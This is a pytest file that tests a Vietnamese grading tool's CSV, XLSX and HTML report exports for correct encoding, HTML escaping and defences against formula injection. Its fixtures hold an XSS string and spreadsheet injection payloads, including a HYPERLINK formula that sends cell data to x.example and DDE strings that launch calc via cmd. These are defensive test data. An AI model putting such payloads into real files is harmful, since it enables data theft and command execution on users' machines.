"""Report exports open correctly: quoted UTF-8 CSV with BOM, XLSX with charts, escaped HTML."""

import csv
import subprocess
import sys

import openpyxl
import pytest

from hocai_grader import export
from hocai_grader.report import COMPLETED, NOT_PASSED, NOT_SUBMITTED, Report, Row


@pytest.fixture
def report():
    a = ["bai01", "bai02"]
    rows = [
        Row(
            "annv",
            "Nguyễn Văn An",
            "UBND xã Tân Hòa, huyện Châu Thành",
            "Công chức",
            {"bai01": 50.0, "bai02": 40.0},
            90.0,
            100.0,
            COMPLETED,
        ),
        Row(
            "bichpt",
            'Phạm, Thị "Bích"',
            "Trường TH",
            "Giáo viên",
            {"bai01": 20.0, "bai02": None},
            20.0,
            100.0,
            NOT_PASSED,
            ["bai02", "cần thêm 50 điểm"],
            ["bai01: quá thời gian"],
        ),
        Row(
            "xss",
            "<script>alert(1)</script>",
            "",
            "",
            {"bai01": None, "bai02": None},
            0.0,
            100.0,
            NOT_SUBMITTED,
            ["bai01", "bai02"],
        ),
    ]
    return Report("lop-tan-hoa", a, {"bai01": 50.0, "bai02": 50.0}, rows, {"min_percent": 70.0, "require_all": True})


def test_csv_is_quoted_utf8_with_bom_and_survives_commas(report, tmp_path):
    out = tmp_path / "kq.csv"
    export.write_csv(report, out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    header = rows[0]
    assert len({len(r) for r in rows}) == 1
    assert rows[2][header.index("Họ và tên")] == 'Phạm, Thị "Bích"'
    assert rows[1][header.index("Đơn vị")] == "UBND xã Tân Hòa, huyện Châu Thành"
    assert rows[2][header.index("Trạng thái")] == "Chưa đạt"
    assert rows[2][header.index("Ghi chú")] == "bai01: quá thời gian"


def test_csv_export_works_under_a_non_utf8_locale(report, tmp_path):
    out = tmp_path / "kq.csv"
    code = (
        "import sys, pickle; from hocai_grader import export; "
        "export.write_csv(pickle.loads(sys.stdin.buffer.read()), __import__('pathlib').Path(sys.argv[1]))"
    )
    import pickle

    env = {"LANG": "C", "LC_ALL": "C", "PYTHONIOENCODING": "ascii", "PYTHONUTF8": "0", "PATH": "/usr/bin"}
    done = subprocess.run(
        [sys.executable, "-c", code, str(out)], input=pickle.dumps(report), env=env, capture_output=True
    )
    assert done.returncode == 0, done.stderr.decode()
    assert "Nguyễn Văn An" in out.read_text(encoding="utf-8-sig")


def test_xlsx_has_results_and_charts(report, tmp_path):
    out = tmp_path / "kq.xlsx"
    export.write_xlsx(report, out)
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Kết quả", "Theo bài", "Phân bố điểm"]
    sheet = book["Kết quả"]
    header = [c.value for c in sheet[1]]
    assert sheet.cell(row=3, column=header.index("Họ và tên") + 1).value == 'Phạm, Thị "Bích"'
    assert book["Theo bài"]._charts and book["Phân bố điểm"]._charts
    assert [c.value for c in book["Theo bài"]["B"]][1:] == [2, 1]


def test_html_is_self_contained_and_escaped(report, tmp_path):
    out = tmp_path / "kq.html"
    export.write_html(report, out)
    page = out.read_text(encoding="utf-8")
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "<svg" in page and "Hoàn thành: <b>1</b>" in page
    assert "http://" not in page.replace('xmlns="http://www.w3.org/2000/svg"', "")


def test_histogram_counts_only_submitters(report):
    hist = report.score_histogram()
    assert sum(hist.values()) == 2 and hist["90–100"] == 1 and hist["20–29"] == 1


INJECTIONS = {
    "unit": '=HYPERLINK("http://x.example/?d="&A2,"Bấm vào đây")',
    "position": "+cmd|' /C calc'!A0",
    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "-2+3",
}


@pytest.fixture
def hostile(report):
    row = Row(
        "hack",
        INJECTIONS["name"],
        INJECTIONS["unit"],
        INJECTIONS["position"],
        {"bai01": 10.0, "bai02": None},
        10.0,
        100.0,
        NOT_PASSED,
        ["bai02"],
        [INJECTIONS["notes"]],
    )
    report.rows.append(row)
    return report


def test_csv_neutralises_formula_prefixes_without_touching_names(hostile, tmp_path):
    out = tmp_path / "kq.csv"
    export.write_csv(hostile, out)
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
    hack = rows[-1]
    assert hack["Đơn vị"] == "'" + INJECTIONS["unit"] and hack["Chức vụ"] == "'" + INJECTIONS["position"]
    assert hack["Họ và tên"] == "'" + INJECTIONS["name"] and hack["Ghi chú"] == "'" + INJECTIONS["notes"]
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    assert rows[0]["Họ và tên"] == "Nguyễn Văn An" and rows[1]["Họ và tên"] == 'Phạm, Thị "Bích"'
    assert rows[0]["bai01"] == "50.0" and rows[1]["bai02"] == ""


def test_xlsx_keeps_formula_like_text_as_text(hostile, tmp_path):
    import zipfile

    out = tmp_path / "kq.xlsx"
    export.write_xlsx(hostile, out)
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    sheet = openpyxl.load_workbook(out)["Kết quả"]
    header = [c.value for c in sheet[1]]
    cells = {
        name: sheet.cell(row=sheet.max_row, column=header.index(name) + 1)
        for name in ("Đơn vị", "Chức vụ", "Họ và tên", "Ghi chú")
    }
    assert [c.value for c in cells.values()] == [INJECTIONS[k] for k in ("unit", "position", "name", "notes")]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())
    assert sheet.cell(row=2, column=header.index("Họ và tên") + 1).value == "Nguyễn Văn An"
